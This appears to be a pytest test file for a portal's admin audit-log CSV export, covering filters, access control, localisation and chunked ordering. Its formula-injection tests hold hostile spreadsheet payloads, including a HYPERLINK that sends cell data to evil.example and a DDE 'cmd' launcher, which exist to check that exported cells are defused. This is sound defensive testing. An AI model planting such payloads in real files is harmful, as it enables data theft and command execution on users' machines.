"""Administrators export the audit trail as CSV: the page's filters, formula cells defused."""

import csv
import io
from urllib.parse import parse_qs, urlsplit

import pytest
from flask_babel import force_locale, gettext

from portal import audit
from portal.models import AuditEvent, User

from . import record_at, sentences
from portal_testing import HOSTILE, PASSWORD_ALONE
from portal_testing.admin import add_org, events
from portal_testing.auth import sent_to_sign_in

pytestmark = pytest.mark.app_config(**PASSWORD_ALONE)

EXPORT = "/admin/audit.csv"
COLUMNS = ["time_utc", "category", "action", "sentence", "actor", "target", "reference"]
FSI, PDI = "\u2068", "\u2069"


def read_csv(response):
    """The file as a spreadsheet reads it: its byte order mark, then rows of cells."""
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def as_dicts(response):
    header, *rows = read_csv(response)
    assert header == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def dated(app, admin):
    """A few events of March 2020 (the set-up's own events are of today)."""
    user = admin.user
    record_at(app, "request.viewed", (2020, 3, 1, 9), user=user, reference="AR-2020-0042")
    record_at(app, "request.note", (2020, 3, 2, 10, 30, 5), user=user, reference="AR-2020-0042")
    record_at(app, "sign_out", (2020, 3, 3, 12), user=user, target_user=user)


MARCH = "since=2020-03-01&until=2020-03-31"


def test_an_administrator_downloads_the_filtered_events(app, admin, dated):
    response = admin.get(f"{EXPORT}?{MARCH}")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.mimetype_params["charset"] == "utf-8"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and disposition.endswith('.csv"')
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    # Actions only, as on the page by default.
    assert as_dicts(response) == [
        {
            "time_utc": "2020-03-02T10:30:05Z",
            "category": "actions",
            "action": "request.note",
            "sentence": f"{FSI}admin@example.org{PDI} added an internal note to "
            f"{FSI}AR-2020-0042{PDI}",
            "actor": "admin@example.org",
            "target": "",
            "reference": "AR-2020-0042",
        }
    ]


def test_the_export_honours_every_filter_of_the_page(app, admin, dated):
    every = as_dicts(admin.get(f"{EXPORT}?category=all&{MARCH}"))
    assert [(r["category"], r["action"]) for r in every] == [
        ("sign_ins", "sign_out"),
        ("actions", "request.note"),
        ("page_views", "request.viewed"),
    ]
    assert [r["action"] for r in as_dicts(admin.get(f"{EXPORT}?category=page_views&{MARCH}"))] == [
        "request.viewed"
    ]
    assert [r["action"] for r in as_dicts(admin.get(f"{EXPORT}?action=sign_out"))] == ["sign_out"]
    by_day = as_dicts(admin.get(f"{EXPORT}?category=all&since=2020-03-02&until=2020-03-02"))
    assert [r["action"] for r in by_day] == ["request.note"]
    by_reference = as_dicts(admin.get(f"{EXPORT}?category=all&reference=0042"))
    assert [r["action"] for r in by_reference] == ["request.note", "request.viewed"]
    nobody = as_dicts(
        admin.get(f"{EXPORT}?category=all&email=nobody@example.org&email_match=exact")
    )
    assert nobody == []


def test_the_page_links_to_the_export_of_its_filters(app, admin, dated):
    page = admin.page(f"/admin/audit?category=all&{MARCH}&page=1")

    start = page.index('href="/admin/audit.csv')
    link = page[start + 6 : page.index('"', start + 6)].replace("&amp;", "&")
    query = parse_qs(urlsplit(link).query)
    assert query == {"category": ["all"], "since": ["2020-03-01"], "until": ["2020-03-31"]}
    assert len(as_dicts(admin.get(link))) == 3


def test_the_sentence_is_in_the_page_language(app, admin, dated):
    rows = as_dicts(admin.get(f"{EXPORT}?{MARCH}&lang=fr"))

    with app.test_request_context(), force_locale("fr"):
        expected = gettext(
            "%(who)s added an internal note to %(reference)s",
            who=f"{FSI}admin@example.org{PDI}",
            reference=f"{FSI}AR-2020-0042{PDI}",
        )
    assert [r["sentence"] for r in rows] == [expected]
    # The columns and codes do not change with the language: a script reads every export.
    assert rows[0]["action"] == "request.note" and rows[0]["category"] == "actions"


def test_exporting_is_recorded(app, admin, dated):
    admin.get(f"{EXPORT}?category=all&{MARCH}")

    [exported] = events(app, "audit.exported")
    assert exported.user_id == admin.user.id
    assert exported.detail == "category=all since=2020-03-01 until=2020-03-31"
    # ... as an action, shown on the page by default.
    assert sentences(admin.get("/admin/audit"))[0] == (
        "admin@example.org exported the audit trail as CSV"
    )


@pytest.mark.parametrize("query", ["since=yesterday", "category=bogus", "email=%00"])
def test_bad_filters_send_back_to_the_page_with_its_errors_and_export_nothing(app, admin, query):
    response = admin.get(f"{EXPORT}?{query}")

    assert response.status_code == 303
    assert response.headers["Location"] == f"/admin/audit?{query}"
    assert events(app, "audit.exported") == []
    assert 'id="error-summary"' in admin.page(response.headers["Location"])


# --- formula injection and hostile names ---------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_cells_a_spreadsheet_would_run_are_defused(app, admin, formula):
    organization = add_org(app, "formula", name=formula)
    with app.app_context():
        # Addresses the account forms refuse, as an old or imported row could hold them.
        odd = User.create(
            email=formula, role="org_member", password_hash="x", organization=organization
        )
        audit.record("account.deactivated", user=odd, target_user=odd)
        audit.record("organization.created", user=admin.user, detail="key=formula")

    rows = as_dicts(admin.get(EXPORT))

    deactivated = next(r for r in rows if r["action"] == "account.deactivated")
    assert deactivated["actor"] == deactivated["target"] == "'" + formula
    for row in rows:
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
    # The name stays whole inside the sentence, isolated, where no spreadsheet runs it.
    created = next(r for r in rows if r["action"] == "organization.created")
    assert created["sentence"] == (
        f"{FSI}admin@example.org{PDI} added the organization {FSI}{formula}{PDI}"
    )


def test_markup_and_right_to_left_names_are_plain_text_in_the_file(app, admin):
    name = HOSTILE["rtl-override-arabic"] + " " + HOSTILE["script"]
    add_org(app, "odd", name=name)
    with app.app_context():
        audit.record("organization.updated", user=admin.user, detail="key=odd")

    [row] = [r for r in as_dicts(admin.get(EXPORT)) if r["action"] == "organization.updated"]

    # The override ends with its isolate: the rest of the sentence reads in order.
    assert (
        row["sentence"] == f"{FSI}admin@example.org{PDI} changed the organization {FSI}{name}{PDI}"
    )


# --- who may export -----------------------------------------------------------------------


@pytest.mark.parametrize("role", ["reviewer", "org_member"])
def test_other_roles_are_refused_as_on_the_page(app, sign_in_as, role):
    staff = sign_in_as(role)

    for path in ("/admin/audit", EXPORT, f"{EXPORT}?category=all"):
        response = staff.get(path)
        assert response.status_code == 403, path
        assert b"time_utc" not in response.get_data()
    assert events(app, "audit.exported") == []


def test_anonymous_visitors_are_sent_to_sign_in_as_on_the_page(app, client):
    for path in ("/admin/audit", EXPORT):
        response = client.get(path)
        assert response.status_code == 303
        assert sent_to_sign_in(response, path)
    assert events(app, "audit.exported") == []


# --- a large trail ------------------------------------------------------------------------


def test_a_trail_longer_than_a_chunk_is_exported_whole_once_in_order(app, admin, monkeypatch):
    monkeypatch.setattr(audit, "EXPORT_CHUNK", 7)
    with app.app_context():
        AuditEvent.delete().execute()
        for n in range(40):
            audit.record("request.note", user=admin.user, reference=f"AR-2026-{n:04d}")
        # Many events in the same second: the chunks go by time, then by id.
        AuditEvent.update(created_at="2026-03-01 09:00:00").where(AuditEvent.id % 3 == 0).execute()
        expected = [
            e.reference
            for e in AuditEvent.select().order_by(
                AuditEvent.created_at.desc(), AuditEvent.id.desc()
            )
        ]

    rows = as_dicts(admin.get(f"{EXPORT}?action=request.note"))

    assert [r["reference"] for r in rows] == expected
    assert len(set(expected)) == 40
